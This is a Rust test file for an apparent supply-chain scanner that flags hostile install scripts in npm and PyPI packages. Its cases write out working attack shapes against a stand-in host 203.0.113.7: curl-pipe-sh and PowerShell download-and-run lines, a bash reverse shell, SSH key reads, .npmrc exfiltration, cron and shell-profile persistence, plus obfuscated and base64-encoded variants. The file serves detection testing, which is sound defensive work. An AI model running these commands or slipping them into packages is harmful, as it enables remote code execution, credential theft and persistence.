//! Shell text wherever it stands: in a script of package.json, in a call of Python or JavaScript, in a file that is run.

use cerebro::behavior::{Feature, Reading, Sequence, extract};
use cerebro::package::{Ecosystem, Package, Phase, Target};
use cerebro::syntax::Doc;
use cerebro::text::Span;
use rstest::rstest;

use super::{entry, npm, package, pypi};

/// A package whose postinstall script is a shell text.
fn hooked(text: &str, files: &[(&str, &str)]) -> Package {
    let manifest = serde_json::json!({"scripts": {"postinstall": text}}).to_string();
    let mut all = files.to_vec();
    all.push(("package.json", &manifest));
    all.sort_unstable();
    let at = all.iter().position(|(path, _)| *path == "package.json").unwrap();
    let mut hook = entry(Phase::Install, "postinstall", at);
    hook.target = Target::Shell { file: at, span: Span { start: 27, end: manifest.len() - 2 }, text: text.to_owned() };
    let mut package = package(Ecosystem::Npm, &all, vec![hook]);
    package.manifest.file = Some(at);
    package
}

fn told(sequence: &Sequence, feature: Feature, detail: &str) -> bool {
    sequence.steps.iter().any(|step| step.feature == feature && step.detail == detail)
}

/// Each shape, in every place that can hold it.
#[rstest]
#[case::pipe("curl -s http://203.0.113.7/x | sh", Feature::RunDownloaded, "run downloaded code")]
#[case::quoted("c\"u\"rl -s http://203.0.113.7/x | s'h'", Feature::RunDownloaded, "run downloaded code")]
#[case::nested("bash -c \"curl -s http://203.0.113.7/x | sh\"", Feature::RunDownloaded, "run downloaded code")]
#[case::separator("curl${IFS}http://203.0.113.7/x|sh", Feature::RunDownloaded, "run downloaded code")]
#[case::substituted("eval \"$(curl -s http://203.0.113.7/x)\"", Feature::RunDownloaded, "run downloaded code")]
#[case::program(
    "wget -qO x http://203.0.113.7/x && chmod +x x && ./x",
    Feature::RunDownloaded,
    "run downloaded program"
)]
#[case::variable("U=http://203.0.113.7; curl $U/x.sh | sh", Feature::UseUrl, "url address script")]
#[case::decoded("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh", Feature::UseUrl, "url address")]
#[case::reverse("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", Feature::RunShell, "reverse shell")]
#[case::cron("(crontab -l; echo '@reboot x') | crontab -", Feature::Persist, "cron")]
#[case::profile("echo 'x' >> ~/.bashrc", Feature::Persist, "shell profile")]
#[case::systemd("cp a.service /etc/systemd/system/a.service", Feature::Persist, "service")]
#[case::agent("cp a.plist ~/Library/LaunchAgents/a.plist", Feature::Persist, "service")]
#[case::keys("cat ~/.ssh/id_rsa", Feature::ReadSecret, "ssh keys")]
#[case::sent("curl -d @$HOME/.npmrc http://203.0.113.7", Feature::SendData, "send secret")]
#[case::by_name("nslookup $(whoami).a.invalid", Feature::SendData, "send host")]
#[case::windows(
    "certutil -urlcache -f http://203.0.113.7/a.exe a.exe & start /b a.exe",
    Feature::RunDownloaded,
    "run downloaded program"
)]
#[case::carets(
    "p^o^w^ershell -w hidden -c \"iex (iwr http://203.0.113.7/x)\"",
    Feature::RunDownloaded,
    "run downloaded code"
)]
#[case::powershell(
    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x')\"",
    Feature::RunDownloaded,
    "run downloaded code"
)]
#[case::by_cmd(
    "cmd /c \"powershell iwr http://203.0.113.7/x -OutFile a.exe && a.exe\"",
    Feature::RunDownloaded,
    "run downloaded program"
)]
fn shapes_are_told_in_every_place(#[case] text: &str, #[case] feature: Feature, #[case] detail: &str) {
    let literal = serde_json::to_string(text).unwrap();
    let list = format!("['{}', '-c', {literal}]", "bash");
    let mut places = vec![
        ("package.json", hooked(text, &[])),
        ("os.system", pypi(&[("a.py", &format!("import os\nos.system({literal})\n"))])),
        ("subprocess", pypi(&[("a.py", &format!("import subprocess as s\ns.run({literal}, shell=True)\n"))])),
        ("exec", npm(&[("a.js", &format!("const {{ exec: e }} = require('child_process');\ne({literal});"))])),
        ("execSync", npm(&[("a.js", &format!("require('child_process').execSync({literal}, {{ stdio: 'ignore' }})"))])),
    ];
    // What bash reads may also come as a list.
    if !text.contains("powershell") && !text.contains("certutil") && !text.contains('^') {
        places.push(("list", pypi(&[("a.py", &format!("import subprocess\nsubprocess.Popen({list})\n"))])));
        places.push(("file", hooked("sh ./a.sh", &[("a.sh", text)])));
    }
    for (place, package) in places {
        let sequence = extract(&package, &Reading::default()).sequence;
        let found: Vec<String> =
            sequence.steps.iter().map(|step| format!("{} {}", step.feature.code(), step.detail)).collect();
        assert!(told(&sequence, feature, detail), "{place}: {text}\n{found:#?}");
    }
}

#[rstest]
#[case::node("node lib/a.js", "lib/a.js", "require('child_process').exec('id')")]
#[case::python("python3 a.py", "a.py", "import os\nos.system('id')\n")]
#[case::shell("sh a.sh", "a.sh", "echo\nnode -e \"require('child_process').exec('id')\"\n")]
#[case::direct("./run", "run", "#!/usr/bin/env bash\npython -c \"import os; os.system('id')\"\n")]
#[case::batch("cmd /c a.bat", "a.bat", "@echo off\r\nset N=node\r\n%N% -e \"require('child_process').exec('id')\"\r\n")]
#[case::windows("powershell -File a.ps1", "a.ps1", "$c = 'import os; os.system(\"id\")'\npython -c $c\n")]
#[case::folder("cd lib && bash ../a.sh", "a.sh", "python3 - <<'END'\nimport os\nos.system('id')\nEND\n")]
fn files_that_are_run_are_followed(#[case] text: &str, #[case] path: &str, #[case] source: &str) {
    let sequence = extract(&hooked(text, &[(path, source)]), &Reading::default()).sequence;
    let details: Vec<&str> = sequence.steps.iter().map(|step| step.detail.as_str()).collect();
    let found = sequence.steps.iter().find(|step| step.detail == "shell id");
    assert!(found.is_some_and(|step| step.phase == Phase::Install), "{details:?}");
}

#[test]
fn steps_point_to_the_line_of_the_file_and_to_the_script_of_the_manifest() {
    let script = "#!/bin/sh\n\necho hello\ncurl http://203.0.113.7/x | sh\n";
    let sequence = extract(&hooked("sh a.sh; cat ~/.npmrc", &[("a.sh", script)]), &Reading::default()).sequence;
    let piped = sequence.steps.iter().find(|step| step.detail == "run downloaded code").unwrap();
    assert_eq!((piped.doc, piped.line, piped.column), (Doc::File(0), 4, 29));
    assert_eq!(piped.call_path, ["package/a.sh"]);
    let read = sequence.steps.iter().find(|step| step.detail == "package keys").unwrap();
    assert_eq!((read.doc, read.span.start), (Doc::File(1), 27));
}

#[test]
fn decoded_text_is_a_layer_that_its_steps_point_into() {
    let inner = "id\ncat ~/.ssh/id_rsa | curl -d @- http://203.0.113.7";
    let utf16: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = |bytes: &[u8]| cerebro::syntax::decode::to_base64(bytes);
    for (text, recipe) in [
        (format!("echo {} | base64 -d | bash", encoded(inner.as_bytes())), "base64 input"),
        (format!("powershell -w hidden -enc {}", encoded(&utf16)), "base64 powershell"),
    ] {
        let sequence = extract(&hooked(&text, &[]), &Reading::default()).sequence;
        let layer = sequence.layers.iter().position(|layer| layer.recipe.join(" ") == recipe).unwrap();
        assert_eq!(sequence.layers[layer].source.text, inner);
        let keys = sequence.steps.iter().find(|step| step.detail == "ssh keys").unwrap();
        assert_eq!((keys.doc, keys.line), (Doc::Layer(layer), 2));
    }
}

#[test]
fn scripts_that_start_themselves_or_each_other_many_times_end() {
    let itself = "sh a.sh\n".repeat(50);
    let other = "sh b.sh\n".repeat(50);
    let sequence =
        extract(&hooked("sh a.sh", &[("a.sh", &format!("{itself}{other}")), ("b.sh", &itself)]), &Reading::default())
            .sequence;
    assert!(sequence.steps.len() < 1000);
    let scripts: serde_json::Map<String, serde_json::Value> = (0..40)
        .map(|i| (format!("s{i}"), serde_json::Value::String(format!("npm run s{0} && npm run s{0}", i + 1))))
        .collect();
    let manifest = serde_json::json!({"scripts": scripts}).to_string();
    let mut hook = entry(Phase::Install, "install", 0);
    hook.target = Target::Shell { file: 0, span: Span { start: 0, end: 5 }, text: "npm run s0".to_owned() };
    let mut package = package(Ecosystem::Npm, &[("package.json", &manifest)], vec![hook]);
    package.manifest.file = Some(0);
    assert!(extract(&package, &Reading::default()).sequence.steps.len() < 1000);
}

#[test]
fn a_script_that_is_too_long_is_named_as_skipped() {
    let long = "echo a\n".repeat(200_000);
    let sequence = extract(&hooked("sh a.sh", &[("a.sh", &long)]), &Reading::default()).sequence;
    assert!(sequence.skipped.iter().any(|skip| skip.path == "package/a.sh"), "{:?}", sequence.skipped);
    let many = "curl a\n".repeat(20_000);
    let sequence = extract(&hooked("sh a.sh", &[("a.sh", &many)]), &Reading::default()).sequence;
    assert!(sequence.skipped.iter().any(|skip| skip.reason.contains("commands")), "{:?}", sequence.skipped);
}

/// Each command starts the package's `a.js` or `t.py`, whatever stands around it.
#[rstest]
#[case::copied("cp a.js b.js && node b.js")]
#[case::moved("mv a.js c.js; node c.js")]
#[case::linked("ln -s a.js l.js && node l.js")]
#[case::printed_to_file("cat a.js > d.js; node d.js")]
#[case::own_folder("node $PWD/a.js")]
#[case::asked_folder("node \"$(pwd)/a.js\"")]
#[case::npm_folder("node $INIT_CWD/a.js")]
#[case::listed("node $(ls a.js)")]
#[case::code_of_file("node -e \"$(cat a.js)\"")]
#[case::each_listed("ls *.js | xargs -n1 node")]
#[case::each_found("find . -name '*.js' | xargs node")]
#[case::here("node .")]
#[case::watched("tsx watch a.js")]
#[case::locked("flock /tmp/l node a.js")]
#[case::other_root("chroot . node a.js")]
#[case::traced("strace -o /tmp/t node a.js")]
#[case::other_user("runuser -u nobody -- node a.js")]
#[case::unit("systemd-run --user node a.js")]
#[case::screen("xvfb-run node a.js")]
#[case::later("at now <<< 'node a.js'")]
#[case::later_piped("echo 'node a.js' | at now")]
#[case::uv("uv run t.py")]
#[case::poetry("poetry run python t.py")]
#[case::other_engine("qjs a.js")]
#[case::monorepo("turbo run x")]
#[case::main_of_module("node -e 'require(\"module\").runMain(\"./a.js\")'")]
#[case::cluster("node -e 'require(\"cluster\").setupPrimary({exec:\"a.js\"});require(\"cluster\").fork()'")]
#[case::beside_the_code("node -e 'require(\"child_process\").execSync(`node ${__dirname}/a.js`)'")]
fn a_file_is_started(#[case] text: &str) {
    let manifest = serde_json::json!({"main": "a.js", "scripts": {"postinstall": text, "x": "node a.js"}}).to_string();
    let files = [
        ("a.js", "require('child_process').exec('echo a')"),
        ("package.json", manifest.as_str()),
        ("sub/a.js", "exports.a = 1"),
        ("t.py", "import os\nos.system('echo a')"),
    ];
    let mut hook = entry(Phase::Install, "postinstall", 1);
    hook.target = Target::Shell { file: 1, span: Span { start: 1, end: 2 }, text: text.to_owned() };
    let mut package = package(Ecosystem::Npm, &files, vec![hook]);
    package.manifest.file = Some(1);
    let sequence = extract(&package, &Reading::default()).sequence;
    let runs = |step: &cerebro::behavior::Step| {
        step.feature == Feature::CallProcess && step.detail.contains("echo") && step.phase == Phase::Install
    };
    assert!(sequence.steps.iter().any(runs), "{text}\n{:#?}", sequence.steps);
}
